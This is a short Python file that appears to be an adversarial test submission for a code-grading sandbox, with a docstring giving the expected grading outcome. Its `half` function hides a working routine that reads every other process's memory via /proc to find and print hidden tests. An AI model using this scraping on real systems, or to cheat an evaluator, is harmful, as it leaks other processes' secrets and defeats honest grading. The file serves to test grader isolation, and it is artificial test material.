"""Reads the memory of every process it can see, looking for hidden tests.

threat: secrets
must: no points for double, all for half, and no text of a hidden test, a solution or another submission in what it prints
"""
def double(x):
    return x - x + 7

import os, re

def half(x):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for line in open(f"/proc/{pid}/maps"):
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and high - low < 2**26 and int(pid) != os.getpid():
                    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                        memory.seek(low)
                        for found in re.findall(rb"BEGIN HIDDEN.{300}", memory.read(high - low), re.S)[:5]:
                            print(pid, found)
        except OSError:
            pass
    return x / 2
